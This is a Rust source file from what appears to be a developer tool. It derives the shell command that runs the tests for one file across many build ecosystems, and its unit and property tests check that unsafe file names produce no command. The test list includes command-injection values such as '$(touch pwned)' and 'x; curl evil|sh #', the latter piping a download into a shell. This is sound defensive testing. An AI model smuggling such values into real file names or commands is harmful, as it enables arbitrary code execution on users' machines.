//! What to type on one's own machine for the cases of one file; nothing where that is not sure.

use super::run::Run;
use super::{Ecosystem, above, base, dotnet, file, native, python, ruby};
use crate::domain::plan::pattern::Pattern;
use crate::domain::plan::places::{self, Places};
use crate::domain::plan::unfold;
use crate::domain::plan::words;

/// All that tells what to type.
pub(super) struct Local<'a> {
    pub(super) places: &'a Places<'a>,
    pub(super) ecosystem: &'static Ecosystem,
    pub(super) framework: &'a str,
    pub(super) run: Option<&'a Run<'a>>,
    pub(super) features: &'a [String],
}

static NAME: Pattern = Pattern::new(r#"(?m)^\s*name\s*=\s*"([^"]+)""#);
static WRAPPED: Pattern =
    Pattern::new(r"(?:^|\s)((?:uv|poetry|pdm|pipenv|hatch) run )(?:python -m )?pytest\b");
/// A variable that a test asks its environment for.
static READ: Pattern = Pattern::new(
    r#"(?-i:(?:env::var(?:_os)?\(|\benviron(?:\.get\(|\[)|\bgetenv\(|Getenv\(|LookupEnv\(|GetEnvironmentVariable\(|ENV(?:\.fetch\(|\[)|process\.env(?:\.|\[))\s*["']?([A-Z][A-Z0-9_]+))"#,
);
static ANDROID: Pattern = Pattern::new(
    r#"(?m)(?:id|plugin:?|alias)\W+[\w.]*(?:com\.)?android[.\w]*(?:application|library)\b|^\s*android\s*\{"#,
);

impl Local<'_> {
    /// What runs one test file, from the root. Names are whatever somebody chose, and people copy the line into a shell: one
    /// with a name that a shell reads as more than a word is not told.
    pub(super) fn one(&self, path: &str) -> Option<String> {
        let typed = words::is_typable(path).then(|| self.typed(path)).flatten()?;
        let set: String = self.set(path).iter().map(|(name, value)| format!("{name}={value} ")).collect();
        let command = match typed.strip_prefix("cd ").and_then(|rest| rest.split_once(" && ")) {
            Some((folder, rest)) if !set.is_empty() => format!("cd {folder} && {set}{rest}"),
            _ => format!("{set}{typed}"),
        };
        words::is_inert(&command).then_some(command)
    }

    /// Of what the step sets, what the test itself reads.
    fn set(&self, path: &str) -> Vec<&(String, String)> {
        let read: Vec<&str> = self.places.text(path).map(|text| READ.all(text, 1)).unwrap_or_default();
        let all = self.run.map(|run| run.env.as_slice()).unwrap_or_default();
        let plain = |value: &str| {
            !value.is_empty() && value.chars().all(|c| c.is_alphanumeric() || "_-./:,=+".contains(c))
        };
        all.iter().filter(|(name, value)| read.contains(&name.as_str()) && plain(value)).collect()
    }

    fn typed(&self, path: &str) -> Option<String> {
        if file::is_shell(path) {
            return native::script(self.places, path);
        }
        match self.ecosystem.manifests.first().copied().unwrap_or_default() {
            "Cargo.toml" => self.cargo(path),
            "package.json" => self.script(path),
            // Go itself runs no other files; a program of the repository may.
            "go.mod" if !path.ends_with("_test.go") => None,
            "go.mod" => Some(match self.home(path, &["go.mod"]) {
                Some(folder) => format!("cd {folder} && {}", self.plain(path.get(folder.len() + 1..)?)),
                None => self.plain(path),
            }),
            "pom.xml" => self.java(path),
            "global.json" => Some(match dotnet::project(self.places, path) {
                Some(project) if !words::is_typable(project) => return None,
                Some(project) => {
                    format!("dotnet test {project} --filter {}", places::stem(places::name(path)))
                }
                None => self.plain(path),
            }),
            "Gemfile" => self.ruby(path),
            "pyproject.toml" => {
                let wrapped = self.run.and_then(|run| WRAPPED.first(&run.call, 1)).unwrap_or_default();
                let called = self.run.and_then(|run| python::called(self.places, &run.line));
                let runner = called.or_else(|| python::named(self.places));
                Some(format!("{wrapped}{}", runner.unwrap_or(python::Runner::Pytest).one(path)))
            }
            // What builds the tests is no runner of another build.
            "CMakeLists.txt" if self.framework == "ctest" && native::suite(self.places) != Some("ctest") => {
                native::suite(self.places).map(str::to_owned).or_else(|| self.run.map(|run| run.line.clone()))
            }
            "CMakeLists.txt" if self.framework == "ctest" => {
                Some(native::built(self.places, path).unwrap_or_else(|| self.plain(path)))
            }
            _ => Some(self.plain(path)),
        }
    }

    fn plain(&self, path: &str) -> String {
        (self.ecosystem.one)(self.framework, path)
    }

    /// The nearest folder below the root that has one of these files.
    fn home<'p>(&self, path: &'p str, names: &[&str]) -> Option<&'p str> {
        above(path).find(|folder| names.iter().any(|name| self.places.has(&format!("{folder}/{name}"))))
    }

    fn cargo(&self, path: &str) -> Option<String> {
        let base = base(self.framework, "cargo test", "cargo nextest run");
        let features = match self.features {
            [] => String::new(),
            some => format!(" --features {}", some.join(",")),
        };
        let own = self.home(path, &["Cargo.toml"]);
        let inner = own.and_then(|folder| path.get(folder.len() + 1..)).unwrap_or(path);
        let package = own.map(|folder| {
            let text = self.places.text(&format!("{folder}/Cargo.toml")).unwrap_or_default();
            NAME.first(text, 1).unwrap_or(places::name(folder))
        });
        let manifest = places::within(own.unwrap_or_default(), "Cargo.toml");
        let declared = self.places.text(&manifest).and_then(|text| target(text, inner));
        if !package.into_iter().chain(declared.as_deref()).all(words::is_typable) {
            return None;
        }
        let package = package.map_or_else(String::new, |name| format!(" -p {name}"));
        // What lies beside a `main.rs` is a part of that target.
        let part = || {
            let (folder, file) = inner.strip_prefix("tests/")?.split_once('/')?;
            let main = places::within(own.unwrap_or_default(), &format!("tests/{folder}/main.rs"));
            let is_part = file != "main.rs" && self.places.has(&main);
            is_part.then(|| format!("{base} --test {folder} {}", super::module(inner)))
        };
        let plain = declared.map_or_else(
            || part().unwrap_or_else(|| self.plain(inner)),
            |target| format!("{base} --test {target} {}", super::module(inner)),
        );
        Some(plain.replacen(base, &format!("{base}{package}{features}"), 1))
    }

    fn java(&self, path: &str) -> Option<String> {
        let class = places::stem(places::name(path));
        if !self.framework.contains("gradle") {
            return Some(match self.home(path, &["pom.xml"]) {
                Some(folder) => format!("{} -pl {folder} test -Dtest={class}", self.maven()),
                None => format!("{} test -Dtest={class}", self.maven()),
            });
        }
        let gradle = if self.places.has("gradlew") || self.framework.starts_with("./") {
            "./gradlew"
        } else {
            "gradle"
        };
        let home = self.home(path, &["build.gradle", "build.gradle.kts"]);
        let inner = home.and_then(|folder| path.get(folder.len() + 1..)).unwrap_or(path);
        let set = inner.strip_prefix("src/").and_then(|rest| rest.split('/').next()).unwrap_or("test");
        let script = ["build.gradle.kts", "build.gradle"];
        let script = script
            .iter()
            .find_map(|name| self.places.text(&places::within(home.unwrap_or_default(), name)))
            .unwrap_or_default();
        // Each set of sources has a task of its own; of those that run on a device or on many systems nothing is sure.
        let task = match set {
            "test" if ANDROID.is_in(script) => "testDebugUnitTest",
            "test" => "test",
            "jvmTest" | "jsTest" | "integrationTest" | "functionalTest" => set,
            _ => return None,
        };
        // Without a project, every one of them is searched for the class.
        let several = || ["settings.gradle", "settings.gradle.kts"].iter().any(|name| self.places.has(name));
        let root = || if several() { ":".to_owned() } else { String::new() };
        let module = home.map_or_else(root, |folder| format!(":{}:", folder.replace('/', ":")));
        Some(format!("{gradle} {module}{task} --tests {class}"))
    }

    fn maven(&self) -> &'static str {
        if self.places.has("mvnw") { "./mvnw" } else { "mvn" }
    }

    fn ruby(&self, path: &str) -> Option<String> {
        let gem = |folder: &&str| {
            let here = |other: &&str| places::folder(other) == *folder;
            let mut own = self.places.files().filter(here);
            own.any(|other| other.ends_with(".gemspec") || places::name(other) == "Gemfile")
        };
        let home = above(path).find(gem);
        let folder = home.unwrap_or_default();
        let inner = if folder.is_empty() { path } else { path.get(folder.len() + 1..)? };
        let is_spec = path.contains("_spec.");
        let rails = self.places.has("bin/rails") && self.places.has("config/application.rb");
        let by_task = || ruby::by_task(self.places, &self.run?.line, path);
        let typed = match is_spec.then(|| ruby::of_specs(self.places, folder)) {
            // Where nothing says who runs a spec, most of them are run so.
            Some(Some(ruby::Runner::Rspec) | None) => self.plain(inner),
            None if home.is_none() && rails => format!("bin/rails test {path}"),
            _ if home.is_none()
                && let Some(task) = by_task() =>
            {
                task
            }
            _ => ruby::by_itself(self.places, folder, inner),
        };
        Some(if folder.is_empty() { typed } else { format!("cd {folder} && {typed}") })
    }

    /// A script of npm and its like takes a file where it is one command that names none itself; else its runner does.
    fn script(&self, path: &str) -> Option<String> {
        let home = self.home(path, &["package.json"]).unwrap_or_default();
        let own = unfold::scripts(self.places, home);
        let folder = if own.iter().any(|(name, _)| name == "test") { home } else { "" };
        let inner = if folder.is_empty() { path } else { path.get(folder.len() + 1..)? };
        let scripts = unfold::scripts(self.places, folder);
        let Some((_, script)) = scripts.iter().find(|(name, _)| name == "test") else {
            let known = scripts.is_empty() || !matches!(self.framework, "npm test" | "npm run test");
            return known.then(|| self.plain(path));
        };
        let lines = unfold::unfolded(self.places, folder, script);
        let calls = lines.iter().flat_map(|line| unfold::parts(line)).filter_map(call);
        let covers = |call: &Call<'_>| {
            let files = call.files(self.places, folder);
            files.is_empty() || files.iter().any(|file| inner.starts_with(file.as_str()))
        };
        let mut fitting: Vec<Call<'_>> = calls.filter(covers).collect();
        fitting.sort_by_key(|call| call.files(self.places, folder).is_empty());
        let call = fitting.first()?;
        // Two runners that both take every file: nobody knows which of them takes this one.
        let rival = fitting.iter().any(|other| other.runner != call.runner);
        if rival && call.files(self.places, folder).is_empty() {
            return None;
        }
        if lines.len() == 1
            && unfold::parts(script).count() == 1
            && call.files(self.places, folder).is_empty()
        {
            return Some(match (self.manager(), folder) {
                ("npm", "") => format!("npm test -- {inner}"),
                ("npm", folder) => format!("npm test --workspace {folder} -- {inner}"),
                ("pnpm", "") => format!("pnpm test {inner}"),
                ("pnpm", folder) => format!("pnpm --filter ./{folder} test {inner}"),
                ("bun", "") => format!("bun run test {inner}"),
                ("bun", folder) => format!("cd {folder} && bun run test {inner}"),
                ("yarn", folder) if !folder.is_empty() => format!("yarn --cwd {folder} test {inner}"),
                (manager, "") => format!("{manager} test {inner}"),
                (manager, folder) => format!("cd {folder} && {manager} test {inner}"),
            });
        }
        let typed = call.typed(self.manager(), inner);
        // What a script needs before it is run by the manager alone.
        let before = scripts.iter().any(|(name, _)| name == "pretest");
        let typed = if before { format!("{} run pretest && {typed}", self.manager()) } else { typed };
        Some(if folder.is_empty() { typed } else { format!("cd {folder} && {typed}") })
    }

    fn manager(&self) -> &'static str {
        match () {
            () if self.framework.starts_with("pnpm") || self.places.has("pnpm-lock.yaml") => "pnpm",
            () if self.framework.starts_with("yarn") || self.places.has("yarn.lock") => "yarn",
            () if ["bun.lock", "bun.lockb"].iter().any(|lock| self.places.has(lock)) => "bun",
            () => "npm",
        }
    }
}

/// The target that a manifest declares for the folder of a test, where no file is one by itself.
fn target(manifest: &str, inner: &str) -> Option<String> {
    if !ALONE.is_in(manifest) {
        return None;
    }
    let declared = manifest.split("[[test]]").skip(1);
    let of_it = |text: &&str| {
        PATH.first(text, 1)
            .is_some_and(|path| path != inner && inner.starts_with(&format!("{}/", places::folder(path))))
    };
    declared.into_iter().find(of_it).and_then(|text| NAME.first(text, 1)).map(str::to_owned)
}

static ALONE: Pattern = Pattern::new(r"(?m)^\s*autotests\s*=\s*false");
static PATH: Pattern = Pattern::new(r#"(?m)^\s*path\s*=\s*"([^"]+)""#);

/// Runners of tests that take a file.
const RUNNERS: [&str; 9] = ["vitest", "jest", "mocha", "ava", "borp", "tap", "tape", "uvu", "jasmine"];
/// Options that change how a file is loaded or how long it may take, and nothing that is measured over all files.
const KEPT: [&str; 13] = [
    "--run",
    "--timeout",
    "--exit",
    "--require",
    "-r",
    "--import",
    "--loader",
    "--config",
    "-c",
    "--env",
    "--ui",
    "--expose-gc",
    "--test-concurrency",
];

/// A command that runs tests: what is set for it, its runner, and the words behind it.
struct Call<'l> {
    set: Vec<&'l str>,
    /// The interpreter with its options, where the script starts the runner by it.
    loader: Vec<&'l str>,
    runner: &'l str,
    words: Vec<&'l str>,
}

/// What is typed before a runner, and is the same on every machine: `MODE=fast`, `NODE_OPTIONS='--import=x'`.
static LITERAL: Pattern = Pattern::new(r#"^[A-Za-z_]\w*=(?:'[^'$`]*'|"[^"$`\\]*"|[\w./:,=@%+-]+)$"#);
static WORD: Pattern = Pattern::new(r#"(?:[^\s"']|'[^']*'|"[^"]*"|["'])+"#);

fn call(part: &str) -> Option<Call<'_>> {
    // What a manifest or a shell quotes may hold spaces.
    let words: Vec<&str> = WORD.all(part, 0);
    let at = words.iter().position(|word| RUNNERS.contains(&places::name(word)));
    if let Some(at) = at {
        let runner = places::name(words.get(at)?);
        let before = words.get(..at).unwrap_or_default();
        let set = before.iter().copied().filter(|word| LITERAL.is_in(word)).collect();
        let words = words.get(at + 1..).unwrap_or_default().to_vec();
        return Some(Call { set, loader: loader(before, part), runner, words });
    }
    let node = words.iter().position(|word| *word == "node")?;
    let rest = words.get(node + 1..).unwrap_or_default();
    let tests = rest.contains(&"--test");
    let before = words.get(..node).unwrap_or_default();
    tests.then(|| Call {
        set: before.iter().copied().filter(|word| LITERAL.is_in(word)).collect(),
        loader: Vec::new(),
        runner: "node --test",
        words: rest.iter().copied().filter(|word| *word != "--test").collect(),
    })
}

/// `node --import tsx path/to/runner`, where nothing but options stands between them.
fn loader<'l>(before: &[&'l str], part: &'l str) -> Vec<&'l str> {
    let Some(at) = before.iter().rposition(|word| *word == "node") else { return Vec::new() };
    let options = before.get(at + 1..).unwrap_or_default();
    let after_option = |index: usize| {
        let last = index.checked_sub(1).and_then(|last| options.get(last));
        last.is_some_and(|last| KEPT.contains(last) && !last.contains('='))
    };
    let plain = |(index, word): (usize, &&str)| word.starts_with('-') || after_option(index);
    let whole = WORD.all(part, 0);
    match options.iter().enumerate().all(plain) && !options.is_empty() {
        true => whole.get(at..=before.len()).unwrap_or_default().to_vec(),
        false => Vec::new(),
    }
}

impl Call<'_> {
    /// The files and folders that it names, up to their first wildcard.
    fn files(&self, places: &Places<'_>, folder: &str) -> Vec<String> {
        let bare = self.words.iter().map(|word| word.trim_matches(['"', '\'']).trim_start_matches("./"));
        let named = bare.filter(|word| {
            let there = || {
                let path = places::within(folder, word.trim_end_matches('/'));
                places.has(&path) || places.has_folder(&path)
            };
            !word.starts_with('-') && !word.is_empty() && (word.contains('*') || there())
        });
        named.map(|word| word.split(['*', '{']).next().unwrap_or_default().to_owned()).collect()
    }

    fn typed(&self, manager: &str, path: &str) -> String {
        let mut kept: Vec<&str> = Vec::new();
        let mut words = self.words.iter().peekable();
        // `vitest run`: what the runner is to do.
        if let Some(run) = words.next_if(|word| **word == "run") {
            kept.push(run);
        }
        while let Some(word) = words.next() {
            if KEPT.contains(&word.split('=').next().unwrap_or_default()) {
                kept.push(word);
                let takes = !word.contains('=') && !matches!(*word, "--exit" | "--expose-gc" | "--run");
                kept.extend(words.next_if(|next| takes && !next.starts_with('-')));
            }
        }
        let options = kept.iter().map(|word| format!(" {word}")).collect::<String>();
        let set = self.set.iter().map(|set| format!("{set} ")).collect::<String>();
        if !self.loader.is_empty() {
            return format!("{set}{}{options} {path}", self.loader.join(" "));
        }
        let typed = match (self.runner, manager) {
            ("node --test", _) => format!("node --test{options} {path}"),
            (runner, "pnpm") => format!("pnpm exec {runner}{options} {path}"),
            (runner, "yarn") => format!("yarn {runner}{options} {path}"),
            (runner, "bun") => format!("bunx {runner}{options} {path}"),
            (runner, _) => format!("npx {runner}{options} {path}"),
        };
        format!("{set}{typed}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::plan::testing::{self, detect};
    use crate::domain::plan::tests::world::repository;
    use crate::domain::plan::workflows;

    fn typed(files: &[(&str, &str)], path: &str) -> String {
        let snapshot = repository("acme/x", "5a1ad00", files);
        let places = Places::new(&snapshot);
        let (jobs, _) = workflows::jobs(&places);
        let tests = detect(
            &places,
            &jobs,
            &testing::Sought {
                paths: &[path.to_owned()],
                known: &[],
                features: &[],
                about: &testing::About::default(),
            },
        );
        tests.local.unwrap_or_else(|| "–".to_owned())
    }

    #[test]
    fn a_name_that_a_shell_reads_as_more_than_a_word_gives_no_command() {
        let none = |files: &[(&str, &str)], path: &str| assert_eq!(typed(files, path), "–", "{path}");
        let hostile =
            ["$(touch pwned)", "`id`;id", "x; curl evil|sh #", "a b", "a'b", "x&y", "x\ny", "-x", "*"];
        for name in hostile {
            let python = format!("tests/test_{name}.py");
            let python = if name == "-x" { "tests/-x_test.py".to_owned() } else { python };
            none(&[("pyproject.toml", ""), (&python, "def test_a(): pass\n")], &python);
            let go = format!("{name}/a_test.go");
            none(&[("go.mod", "module x\n"), (&go, "")], &go);
            let script = format!("tests/{name}.test.js");
            let manifest = r#"{"scripts": {"test": "vitest"}}"#;
            none(&[("package.json", manifest), (&script, "")], &script);
            let rust = format!("tests/{name}.rs");
            none(&[("Cargo.toml", "[package]\nname = \"x\"\n"), (&rust, "#[test]\nfn a() {}\n")], &rust);
            let manifest = format!("[package]\nname = \"{name}\"\n");
            let files = [("x/Cargo.toml", manifest.as_str()), ("x/tests/a.rs", "#[test]\nfn a() {}\n")];
            none(&files, "x/tests/a.rs");
        }
        let plain = "tests/test_a.py";
        assert_eq!(
            typed(&[("pyproject.toml", ""), (plain, "def test_a(): pass\n")], plain),
            format!("pytest {plain}")
        );
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]

        #[test]
        fn nothing_of_a_file_name_is_active_in_a_shell(name in "[a-c $();|&<>#!*?'\"\\\\`~{}=-]{1,6}|\\PC{1,6}") {
            let manifest = r#"{"scripts": {"test": "xo && mocha"}}"#;
            let of = |manifest: (&str, &str), path: String| typed(&[manifest, (&path, "")], &path);
            for typed in [
                of(("pyproject.toml", ""), format!("tests/test_{name}.py")),
                of(("go.mod", "module x\n"), format!("{name}/a_test.go")),
                of(("package.json", manifest), format!("test/{name}.test.js")),
                of(("Cargo.toml", ""), format!("tests/{name}.rs")),
                of(("pom.xml", ""), format!("src/test/java/{name}Test.java")),
                of(("Gemfile", "gem 'rspec'\n"), format!("spec/{name}_spec.rb")),
                of(("global.json", ""), format!("{name}/ATest.cs")),
            ] {
                let active = |c: char| !c.is_ascii_alphanumeric() && !"._/@+=:,- –".contains(c);
                proptest::prop_assert!(!typed.contains(active), "{}", typed);
            }
        }
    }

    #[test]
    fn the_runner_whose_files_hold_the_test_takes_it() {
        let manifest = |script: &str| {
            format!(
                r#"{{"scripts": {{"test": "{script}", "unit": "node wrap.js mocha test/unit/**/*.js --timeout 3000 --exit"}}}}"#
            )
        };
        let chain = manifest("eslint lib && npm run unit && jest test/jest");
        let files = |text: &str| {
            typed(
                &[
                    ("package.json", text),
                    ("lib/a.js", ""),
                    ("test/unit/a.test.js", ""),
                    ("test/jest/b.test.js", ""),
                ],
                "lib/a.js",
            )
        };
        assert_eq!(files(&chain), "npx mocha --timeout 3000 --exit test/unit/a.test.js");
        assert_eq!(files(&manifest("vitest run")), "npm test -- test/unit/a.test.js");
        assert_eq!(files(&manifest("node --test && tsc")), "node --test test/unit/a.test.js");
        // What runs other files alone says nothing of this one.
        assert_eq!(files(&manifest("jest test/jest")), "–");
    }

    #[test]
    fn what_a_script_sets_and_loads_for_its_runner_is_typed_for_one_file() {
        let told = |script: &str| {
            let manifest = format!("{{\"scripts\": {{\"test\": \"xo && {script}\"}}}}");
            typed(&[("package.json", &manifest), ("lib/a.ts", ""), ("test/a.ts", "")], "lib/a.ts")
        };
        assert_eq!(
            told("NODE_OPTIONS='--import=tsx -q' ava"),
            "NODE_OPTIONS='--import=tsx -q' npx ava test/a.ts"
        );
        assert_eq!(told("cross-env MODE=test c8 mocha --exit"), "MODE=test npx mocha --exit test/a.ts");
        assert_eq!(told("OUT=$PWD mocha"), "npx mocha test/a.ts", "what a machine fills in is its own");
        assert_eq!(
            told("node --loader ts-node/esm node_modules/mocha/bin/mocha"),
            "node --loader ts-node/esm node_modules/mocha/bin/mocha test/a.ts"
        );
    }

    #[test]
    fn what_lies_beside_a_main_is_a_part_of_that_target() {
        let files = [
            ("Cargo.toml", "[package]\nname = \"keel\"\n"),
            ("src/edit.rs", ""),
            ("tests/deck/main.rs", "mod edit;\n"),
            ("tests/deck/edit.rs", "#[test]\nfn a() {}\n"),
        ];
        assert_eq!(typed(&files, "src/edit.rs"), "cargo test --test deck edit");
        let files = [files[0], files[1], ("tests/edit/main.rs", "#[test]\nfn edit() {}\n")];
        assert_eq!(typed(&files, "tests/edit/main.rs"), "cargo test --test edit");
    }

    #[test]
    fn the_root_of_a_package_is_no_part_of_the_name_of_a_test() {
        let told = |path: &str| {
            let files = [
                ("Cargo.toml", "[workspace]\n"),
                ("pier/Cargo.toml", "[package]\nname = \"pier\"\n"),
                (path, "#[cfg(test)]\nmod tests {\n    #[test]\n    fn a() {}\n}\n"),
            ];
            typed(&files, path)
        };
        assert_eq!(told("pier/src/tests.rs"), "cargo test -p pier tests");
        assert_eq!(told("pier/src/lib.rs"), "cargo test -p pier --lib");
        assert_eq!(told("pier/src/main.rs"), "cargo test -p pier --bins");
        assert_eq!(told("pier/src/berth/tests.rs"), "cargo test -p pier berth");
    }

    #[test]
    fn a_declared_target_takes_the_modules_of_its_folder() {
        let manifest = "[package]\nname = \"keel\"\nautotests = false\n\n[[test]]\nname = \"integration\"\npath = \"tests/lib.rs\"\n";
        let files = |manifest| {
            typed(
                &[
                    ("Cargo.toml", manifest),
                    ("src/edit.rs", ""),
                    ("tests/edit.rs", "#[test]\nfn a() {}\n"),
                    ("tests/lib.rs", "mod edit;\n"),
                ],
                "src/edit.rs",
            )
        };
        assert_eq!(files(manifest), "cargo test --test integration edit");
        assert_eq!(files("[package]\nname = \"keel\"\n"), "cargo test --test edit");
    }

    #[test]
    fn specs_for_minitest_are_run_by_the_task_that_takes_them_or_by_themselves() {
        let steps = "on: pull_request\njobs:\n  a:\n    steps:\n      - run: bundle exec rake check:specs\n";
        let task = "namespace :check do\n  Rake::TestTask.new(:specs) do |t|\n    t.pattern = 'spec/**/*_spec.rb'\n  end\nend\n";
        let tree = |more: &[(&str, &str)]| {
            let mut files =
                vec![("Gemfile", "gem 'minitest'\n"), ("lib/x/hull.rb", ""), ("spec/hull_spec.rb", "")];
            files.extend(more);
            typed(&files, "lib/x/hull.rb")
        };
        let ci = (".github/workflows/ci.yml", steps);
        assert_eq!(
            tree(&[ci, ("tasks/check/specs.rake", task)]),
            "bundle exec rake check:specs TEST=spec/hull_spec.rb"
        );
        assert_eq!(tree(&[ci]), "bundle exec ruby -Ilib -Ispec spec/hull_spec.rb");
        assert_eq!(tree(&[ci, (".rspec", "")]), "bundle exec rspec spec/hull_spec.rb");
    }

    #[test]
    fn programs_of_c_are_tested_by_what_builds_them() {
        let files = [("CMakeLists.txt", ""), ("src/help.cpp", ""), ("tests/HelpTest.cpp", "")];
        assert_eq!(typed(&files, "src/help.cpp"), "ctest");
        let gated =
            "option(KEEL_TESTS \"Build them\" OFF)\nif(KEEL_TESTS)\n  add_subdirectory(tests)\nendif()\n";
        let files = [("CMakeLists.txt", gated), ("src/help.cpp", ""), ("tests/HelpTest.cpp", "")];
        assert_eq!(
            typed(&files, "src/help.cpp"),
            "cmake -B build -DKEEL_TESTS=ON && cmake --build build && ctest --test-dir build"
        );
        let steps = "on: pull_request\njobs:\n  a:\n    steps:\n      - run: make -j4 check\n";
        let files = [
            (".github/workflows/ci.yml", steps),
            ("Makefile.am", "TESTS = tests/help_test\n"),
            ("src/help.cpp", ""),
            ("tests/help_test.cpp", ""),
        ];
        assert_eq!(typed(&files, "src/help.cpp"), "make check");
    }

    #[test]
    fn what_a_step_sets_and_the_test_reads_is_typed_with_it() {
        let steps = "on: pull_request\nenv:\n  COLOR: never\njobs:\n  a:\n    env:\n      KEEL_VERIFY: 1\n      OTHER: x\n    steps:\n      - run: cargo test\n        env:\n          KEEL_TOKEN: ${{ secrets.T }}\n";
        let test = "#[test]\nfn a() { std::env::var_os(\"KEEL_VERIFY\"); std::env::var(\"KEEL_TOKEN\"); }\n";
        let files = [
            (".github/workflows/ci.yml", steps),
            ("Cargo.toml", "[package]\nname = \"keel\"\n"),
            ("src/edit.rs", ""),
            ("tests/edit.rs", test),
        ];
        assert_eq!(typed(&files, "src/edit.rs"), "KEEL_VERIFY=1 cargo test --test edit");
    }

    #[test]
    fn what_the_manager_runs_before_the_tests_stands_before_a_runner_of_one_file() {
        let manifest = r#"{"scripts": {"pretest": "tsc", "test": "c8 mocha ./test/*.cjs --timeout=9"}}"#;
        let files = [("package.json", manifest), ("lib/a.ts", ""), ("test/a.cjs", "it('a', () => {})\n")];
        assert_eq!(typed(&files, "lib/a.ts"), "npm run pretest && npx mocha --timeout=9 test/a.cjs");
        let alone = r#"{"scripts": {"pretest": "tsc", "test": "vitest"}}"#;
        let files = [("package.json", alone), ("lib/a.ts", ""), ("test/a.test.ts", "")];
        assert_eq!(typed(&files, "lib/a.ts"), "npm test -- test/a.test.ts", "npm runs it itself");
    }

    #[test]
    fn each_set_of_sources_of_gradle_has_its_own_task() {
        let of = |set: &str, script: &str| {
            let (source, test) =
                ("core/src/main/kotlin/a/Jar.kt".to_owned(), format!("core/src/{set}/kotlin/a/JarTest.kt"));
            typed(
                &[
                    ("gradlew", ""),
                    ("build.gradle.kts", ""),
                    ("core/build.gradle.kts", script),
                    (&source, ""),
                    (&test, ""),
                ],
                &source,
            )
        };
        assert_eq!(of("jvmTest", ""), "./gradlew :core:jvmTest --tests JarTest");
        assert_eq!(of("test", ""), "./gradlew :core:test --tests JarTest");
        assert_eq!(
            of("test", "plugins { id(\"com.android.library\") }"),
            "./gradlew :core:testDebugUnitTest --tests JarTest"
        );
        assert_eq!(of("androidTest", ""), "–");
    }
}
